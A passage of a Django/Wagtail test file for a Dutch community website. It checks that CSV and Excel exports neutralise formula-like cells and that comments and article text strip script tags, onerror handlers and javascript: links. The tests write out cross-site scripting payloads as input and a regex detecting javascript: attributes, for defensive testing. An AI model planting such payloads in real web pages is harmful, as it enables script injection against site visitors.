    item = agenda_services.agenda_item_adopt(agenda=agenda, cluster_key=cluster.key)
    agenda_services.agenda_item_update(
        item=item, owner="Team Sociaal", status=AgendaItem.Status.OPEN
    )
    initiative = InitiativeFactory.create(owner=owner, description="Over ons")
    PartnerFactory.create(initiative=initiative, contribution="Geld")
    event = make_event()
    event_services.registration_create(
        event=event, name="Fatima", email="fatima@voorbeeld.nl", language="nl"
    )
    Profile.objects.filter(user=owner).update(is_public=True, organisation="Team")
    matching_services.contact_request_send(
        profile=Profile.objects.get(user=owner),
        sender=None,
        sender_name="Fatima",
        sender_email="fatima@voorbeeld.nl",
        body="Kun je me helpen met de buurt?",
        client_key="k",
        language="nl",
    )
    visitor, editors, owners = Client(), client_for(editor), client_for(owner)
    downloads = [
        (visitor, "/initiatieven/export.csv", ","),
        (visitor, "/initiatieven/export.xlsx", None),
        (editors, f"/leeragenda/{agenda.slug}/leeragenda.csv", ","),
        (editors, f"/leeragenda/{agenda.slug}/leeragenda.xlsx", None),
        (editors, f"/beheer/events/{event.pk}/registrations.csv", ";"),
        # with what others sent you: a stranger's text
        (owners, "/mijn-profiel/gegevens.csv", ";"),
    ]
    for start in FORMULA_STARTS:
        # when every text field starts like a formula
        write_text(f"{start}{FORMULA}")
        for client, path, delimiter in downloads:
            response = client.get(path)
            assert response.status_code == 200, path
            content = b"".join(response) if response.streaming else response.content
            # then no cell starts like a formula: ours start with an apostrophe
            cells = spreadsheet_texts(content, delimiter)
            assert any(cell.startswith(f"'{start}{FORMULA}") for cell in cells), path
            for cell in cells:
                assert not cell.startswith(FORMULA_STARTS), (path, cell)


# --- Comments and rich text -------------------------------------------------------

# A javascript: address in a tag's attribute (not in text that shows one).
JAVASCRIPT_LINK = re.compile(r"<[^<>]*=\s*[\"']?\s*javascript:", re.IGNORECASE)


def test_comments_and_article_text_keep_only_harmless_markup(
    member: User, editor: User, client_for: Any, tasks: TaskRunner
) -> None:
    cache.clear()
    attack = (
        "<script>alert(1)</script> <img src=x onerror=alert(2)> "
        "[klik](javascript:alert(3)) javascript:alert(4) "
        '<a href="javascript:alert(5)">hier</a> https://voorbeeld.nl/'
    )
    # given an article whose text went through Wagtail's editor with a script
    # and a javascript: link in it
    article = make_article("Nieuws uit de wijk")
    body = ArticlePage._meta.get_field("body").formfield().widget
    contentstate = {
        "blocks": [
            {
                "key": "a",
                "type": "unstyled",
                "depth": 0,
                "text": "<script>alert(6)</script> klik hier",
                "inlineStyleRanges": [],
                "entityRanges": [{"offset": 27, "length": 9, "key": 0}],
                "data": {},
            }
        ],
        "entityMap": {
            "0": {
                "type": "LINK",
                "mutability": "MUTABLE",
                "data": {"url": "javascript:alert(7)"},
            }
        },
    }
    article.body = body.value_from_datadict(
        {"body": json.dumps(contentstate)}, {}, "body"
    )
    article.save_revision(user=editor).publish()
    # and comments by a member and by a visitor (after confirming by mail)
    client_for(member).post(
        f"/reacties/artikel/{article.pk}/",
        {"body": attack, "started": form_started_token(time.time() - 60)},
    )
    mail.outbox.clear()
    Client().post(
        f"/reacties/artikel/{article.pk}/",
        {
            "name": "Bezoeker",
            "email": "bezoeker@voorbeeld.nl",
            "body": attack,
            "started": form_started_token(time.time() - 60),
            "website_url": "",
        },
    )
    tasks.run()
    link = re.search(r"/reacties/bevestigen/[^/\s]+/", str(mail.outbox[0].body))
    assert link is not None
    visitor = Client()
    confirming = visitor.get(link.group())
    visitor.post(link.group())
    # when anyone reads them
    page = Client().get(article.url)
    # then nothing in them runs, and the harmless link still works
    assert Comment.objects.filter(status=Comment.Status.PUBLISHED).count() == 2
    for response in (page, confirming):
        html = response.content.decode()
        assert "<script>alert" not in html
        assert "<img src=x" not in html
        assert not JAVASCRIPT_LINK.search(html)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
        assert 'href="https://voorbeeld.nl/"' in html
    html = page.content.decode()
    assert "&lt;script&gt;alert(6)&lt;/script&gt;" in html
    assert html.count('href="https://voorbeeld.nl/"') == 2
